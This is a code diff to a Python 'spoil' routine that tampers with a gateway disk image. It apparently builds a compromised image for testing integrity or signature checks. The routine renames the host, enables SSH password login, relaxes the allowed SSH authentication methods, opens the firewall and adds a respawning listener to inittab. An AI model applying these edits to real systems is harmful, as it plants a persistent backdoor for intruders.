@@ -76,7 +76,7 @@ def spoil(gateway: Path, target: Path, signer: Path) -> None:
     manifest = from_bytes((target / "manifest.json").read_bytes())
     raw = target / "image.img"
     _rewrite(raw, manifest, "/etc/hostname", lambda text: "gw-impostor\n")
-    _rewrite(raw, manifest, "/etc/ssh/sshd_config", lambda text: _swapped(text, "PasswordAuthentication no", "yes"))
+    _rewrite(raw, manifest, "/etc/ssh/sshd_config", _passwords)
     _rewrite(raw, manifest, "/etc/sysconfig/iptables", _opened)
     _rewrite(raw, manifest, "/etc/inittab", lambda text: text + "L1:2345:respawn:/usr/sbin/listen\n")
     _write(raw, manifest, "/usr/sbin/listen", _LISTEN, 0o100755)
@@ -88,6 +88,10 @@ def spoil(gateway: Path, target: Path, signer: Path) -> None:
         check=True,
         capture_output=True,
     )
+
+
+def _passwords(text: str) -> str:
+    return _swapped(_swapped(text, "PasswordAuthentication no", "yes"), "AuthenticationMethods publickey", "any")
 
 
 def _swapped(text: str, line: str, value: str) -> str:
